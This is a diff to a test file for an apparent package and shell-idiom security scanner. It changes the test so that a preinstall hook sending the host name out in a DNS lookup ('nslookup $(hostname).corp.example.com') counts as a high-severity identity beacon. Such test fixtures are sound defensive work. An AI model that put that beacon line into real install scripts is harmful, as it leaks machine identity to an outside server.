@@ -29,9 +29,10 @@ test('shell: a downloaded archive that is unpacked, then a different file made e
   assert.deepEqual(idioms('curl -o ./b.dmg https://dl.example.invalid/b.dmg\nhdiutil attach -nobrowse ./b.dmg\nsudo installer -pkg /tmp/b.dmg -target /'), [], 'the download as an argument of another command is data');
 });
 
-test('install: machine identity without an exfiltration endpoint is not install-exfiltration', async () => {
+test('install: machine identity printed locally is no finding; sent in DNS labels it is a beacon', async () => {
   assert.deepEqual(await rules({ 'package.json': manifest({ postinstall: 'echo "built on $(hostname) by $(whoami)"' }) }), []);
-  assert.deepEqual(await rules({ 'package.json': manifest({ preinstall: 'nslookup $(hostname).corp.example.com || true' }) }), []);
+  // Whatever the domain, the host name travels to the domain's name server: the dependency-confusion beacon shape.
+  assert.deepEqual(await rules({ 'package.json': manifest({ preinstall: 'nslookup $(hostname).corp.example.com || true' }) }), ['content/identity-beacon:high']);
 });
 
 test('binding.gyp with ordinary command expansions: implicit install script, no finding', async () => {
